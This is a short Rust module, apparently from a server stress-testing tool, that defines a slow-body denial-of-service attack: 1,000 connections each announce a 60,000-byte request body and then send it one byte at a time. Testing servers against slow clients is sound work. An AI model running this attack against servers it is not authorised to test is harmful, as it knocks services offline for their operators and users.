//! Attack with request bodies sent byte by byte.

use super::{Attack, Attacker, HEAD, Held};

pub const ATTACK: Attack = Attack {
    name: "bodies byte by byte",
    begin: |target| {
        let first = format!("{HEAD}content-length: 60000\r\n\r\n");
        Box::new(SlowBodies(Held::open(target, first, b"x")))
    },
    connections: 1_000,
};

struct SlowBodies(Held);

impl Attacker for SlowBodies {
    fn step(&mut self) -> u32 {
        self.0.send_pieces()
    }
}
